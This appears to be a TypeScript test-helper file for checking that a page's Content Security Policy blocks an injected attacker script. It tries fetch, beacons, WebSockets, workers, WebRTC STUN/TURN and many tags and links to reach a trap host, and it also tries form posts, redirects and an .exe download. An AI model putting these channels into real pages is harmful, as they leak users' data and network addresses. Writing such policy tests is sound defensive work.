/** The addresses where an attacker listens, none of which may receive anything; `http` and `ws` end in a slash. */
export type Trap = { http: string; ws: string; stun: string; turn: string };

/**
 * Tries, as an attacker's script in the page, to contact another host; each address ends in the attempt's name.
 * Resolves once the attempts that report their end have ended. `window.refusedConnections` then has, or soon gets, what
 * the page's policy has refused. Refers to nothing outside itself, because it runs in the page.
 */
export async function reachOut({ http, ws }: Pick<Trap, 'http' | 'ws'>): Promise<void> {
  const refused = new Set<string>();
  Reflect.set(window, 'refusedConnections', refused);
  document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
    const isNamed = /^https?:\/\/[^/]+\/[\w-]+$|^wss?:\/\/[^/]+\/[\w-]+$/.test(blockedURI);
    refused.add(isNamed ? (blockedURI.split('/').at(-1) ?? '') : effectiveDirective);
  });
  const of = (name: string) => `${http}${name}`;
  const add = (tag: string, attributes: Record<string, string>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const attempt = (act: () => unknown): Promise<unknown> =>
    Promise.resolve()
      .then(act)
      .catch(() => undefined);
  const request = () =>
    new Promise((resolve) => {
      const xhr = new XMLHttpRequest();
      xhr.addEventListener('loadend', resolve);
      xhr.open('GET', of('xhr'));
      xhr.send();
    });
  const bare = document.createElement('iframe');
  document.body.append(bare);
  const inside = bare.contentWindow as (Window & typeof globalThis) | null;
  await Promise.all([
    attempt(() => fetch(of('fetch'))),
    attempt(() => fetch(of('fetch-no-cors'), { mode: 'no-cors', method: 'POST', body: 'x' })),
    attempt(() => inside?.fetch(of('frame-fetch'))),
    attempt(request),
    attempt(() => navigator.sendBeacon(of('beacon'), 'x')),
    attempt(() => new WebSocket(`${ws}websocket`)),
    attempt(() => new EventSource(of('eventsource'))),
    attempt(() => new Worker(of('worker'))),
    attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch('${of('blob')}')`])))),
    attempt(() => new SharedWorker(of('shared-worker'))),
    attempt(() => navigator.serviceWorker.register(of('service-worker'))),
    attempt(() => import(/* @vite-ignore */ of('import'))),
    attempt(() => new WebTransport(of('webtransport').replace('http:', 'https:')).ready),
    attempt(() => new FontFace('x', `url(${of('font')})`).load()),
  ]);
  add('img', { src: of('img') });
  add('img', { srcset: `${of('srcset')} 1x` });
  add('video', { src: of('video') });
  add('audio', { src: of('audio') });
  add('video', { poster: of('poster') });
  add('script', { src: of('script') });
  add('link', { rel: 'stylesheet', href: of('stylesheet') });
  add('link', { rel: 'icon', href: of('icon') });
  add('link', { rel: 'prefetch', href: of('prefetch') });
  add('link', { rel: 'preload', as: 'image', href: of('preload') });
  add('link', { rel: 'modulepreload', href: of('modulepreload') });
  add('link', { rel: 'dns-prefetch', href: of('dns-prefetch') });
  add('link', { rel: 'preconnect', href: of('preconnect') });
  add('iframe', { src: of('iframe') });
  add('object', { data: of('object') });
  add('embed', { src: of('embed') });
  add('input', { type: 'image', src: of('input') });
  add('div', { style: `background: url(${of('style')})` });
  add('a', { href: '#x', ping: of('ping') }).click();
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(`body { background-image: url(${of('sheet')}) }`);
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
}

/** What the page's policy must refuse `reachOut`: attempts by name, or only the directive where no name is reported. */
export const REFUSED_CONNECTIONS: readonly string[] = [
  ...['fetch', 'fetch-no-cors', 'xhr', 'beacon', 'websocket', 'eventsource', 'import', 'webtransport'],
  ...['font', 'img', 'srcset', 'video', 'audio', 'poster', 'script', 'stylesheet', 'icon', 'prefetch', 'preload'],
  ...['modulepreload', 'input', 'ping', 'sheet'],
  ...['worker-src', 'frame-src', 'object-src', 'style-src-attr'],
];

/**
 * Opens a peer connection in the page or in an empty frame, with a STUN server to ask for this workstation's address
 * and a TURN server to carry data. Resolves with the types of the servers' candidates once all are gathered.
 */
export async function connectPeer({ stun, turn, inFrame }: Trap & { inFrame: boolean }): Promise<string[]> {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const inside = frame.contentWindow as Window & typeof globalThis;
  const Connection = inFrame ? inside.RTCPeerConnection : RTCPeerConnection;
  const relay = { urls: turn, username: 'x', credential: 'x' };
  const peer = new Connection({ iceServers: [{ urls: stun }, relay] });
  peer.createDataChannel('x');
  const found: string[] = [];
  const gathered = new Promise<void>((resolve) => {
    peer.addEventListener('icecandidate', ({ candidate }) => {
      if (candidate?.type && candidate.type !== 'host') found.push(candidate.type);
    });
    peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && resolve());
  });
  await peer.setLocalDescription(await peer.createOffer());
  await gathered;
  peer.close();
  return found;
}

/**
 * Tries to show another page in this window or in a new one, in every way open to a script. Each address ends in the
 * attempt's name; like `reachOut`, it refers to nothing outside itself.
 */
export function leaveThePage({ http }: Pick<Trap, 'http'>): void {
  const link = (attributes: Record<string, string>) => {
    const element = document.createElement('a');
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    element.click();
  };
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', action: `${http}form` });
  document.body.append(form);
  form.submit();
  const refresh = document.createElement('meta');
  refresh.setAttribute('http-equiv', 'refresh');
  refresh.setAttribute('content', `0; url=${http}refresh`);
  document.head.append(refresh);
  window.open(`${http}open`);
  link({ href: `${http}tab`, target: '_blank' });
  link({ href: `${http}download`, download: 'x.exe' });
  link({ href: `${http}link` });
}
